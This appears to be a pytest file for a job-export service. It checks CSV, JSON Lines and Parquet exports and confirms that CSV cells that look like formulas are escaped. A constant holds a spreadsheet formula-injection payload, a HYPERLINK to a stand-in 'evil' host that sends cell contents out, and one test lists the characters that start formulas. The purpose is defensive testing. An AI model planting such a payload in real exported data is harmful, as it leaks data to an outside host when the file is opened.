"""The trials and measurements of a job as CSV, JSON Lines and Parquet, opened again by what others open them with."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime

import httpx
import pytest
from pyarrow import parquet

from service.domain import FailureReason, TrialState
from service.exports import tables
from service.exports.formats import harmless
from service.store.session import Database
from tests.support.service.live import running
from tests.support.service.scenarios import NOW, begin_trial, claimed_job, end_trial, measure, run_trial
from tests.support.waiting import PATIENCE_SECONDS

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"lr")\r\n+1,"@x'


@pytest.fixture
def job(database: Database) -> str:
    """A job with a trial that completed, one that failed with a detail of somebody else's, and one that runs."""
    lease = claimed_job(database)
    run_trial(database, lease, 0, 0.5)
    begin_trial(database, lease, 1, values={"lr": 0.002})
    measure(database, lease, 1, 10, float("nan"))
    end_trial(database, lease, 1, TrialState.FAILED, reason=FailureReason.ERROR, detail=HOSTILE)
    begin_trial(database, lease, 2)
    return lease.job_id


@pytest.fixture
def http(database: Database) -> Iterator[httpx.Client]:
    with (
        running(database) as url,
        httpx.Client(base_url=url, trust_env=False, verify=False, timeout=PATIENCE_SECONDS) as client,
    ):
        yield client


def test_a_jobs_tables_are_opened_again(http: httpx.Client, job: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "TRIALS_PER_PAGE", 2)
    monkeypatch.setattr(tables, "MEASUREMENTS_PER_PAGE", 3)

    def export(**params: str) -> httpx.Response:
        answer = http.get(f"/v1/jobs/{job}/export", params=params)
        assert answer.status_code == 200, answer.text
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        name = f"{job}-{params['table']}.{params.get('format', 'csv')}"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        return answer

    # CSV, where text that looks like a formula is none.
    answer = export(table="trials")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [(row["number"], row["state"], row["reason"]) for row in rows] == [
        ("0", "completed", ""),
        ("1", "failed", "error"),
        ("2", "running", ""),
    ]
    assert rows[1]["detail"] == f"'{HOSTILE}"
    assert float(rows[1]["parameter.lr"]) == 0.002
    assert float(rows[0]["metric.validation_loss"]) == float(rows[0]["value"]) == 0.5
    # JSON Lines has it as it is.
    lines = [json.loads(line) for line in export(table="trials", format="jsonl").text.splitlines()]
    assert lines[1]["detail"] == HOSTILE
    assert [line["metric.validation_loss"] for line in lines] == [0.5, None, None]
    assert datetime.fromisoformat(lines[0]["created_at"]) == NOW
    # Parquet has types.
    table = parquet.read_table(io.BytesIO(export(table="trials", format="parquet").content))
    assert table.num_rows == 3
    assert {field.name: str(field.type) for field in table.schema if field.name in ("number", "proposed", "value")} == {
        "number": "int64",
        "proposed": "bool",
        "value": "double",
    }
    assert [row["parameter.lr"] for row in table.to_pylist()] == [line["parameter.lr"] for line in lines]
    # Each has every measurement.
    measured = [(0, 10), (0, 20), (0, 30), (0, 40), (1, 10)]
    rows = list(csv.DictReader(io.StringIO(export(table="measurements").text, newline="")))
    assert [(int(row["trial"]), int(row["step"])) for row in rows] == measured
    assert rows[4]["metric.train_loss"] == ""
    lines = [json.loads(line) for line in export(table="measurements", format="jsonl").text.splitlines()]
    assert [(line["trial"], line["step"]) for line in lines] == measured
    table = parquet.read_table(io.BytesIO(export(table="measurements", format="parquet").content))
    assert table.column("metric.validation_loss").to_pylist() == [2.0, 1.0, 0.5 * 40 / 30, 0.5, None]


def test_an_empty_job_is_an_empty_table(sqlite_database: Database) -> None:
    lease = claimed_job(sqlite_database)
    with running(sqlite_database) as url, httpx.Client(base_url=url, trust_env=False, verify=False) as http:
        for table in ("trials", "measurements"):
            text = http.get(f"/v1/jobs/{lease.job_id}/export", params={"table": table}).text
            assert len(text.splitlines()) == 1
            found = http.get(f"/v1/jobs/{lease.job_id}/export", params={"table": table, "format": "parquet"}).content
            assert parquet.read_table(io.BytesIO(found)).num_rows == 0
        assert http.get("/v1/jobs/job_0/export", params={"table": "trials"}).status_code == 404
        refused = http.get(f"/v1/jobs/{lease.job_id}/export", params={"table": "trials", "format": "xls"}).json()
    assert refused["errors"][0]["field"] == "format"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1"])
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(f"x{text}") == f"x{text}"
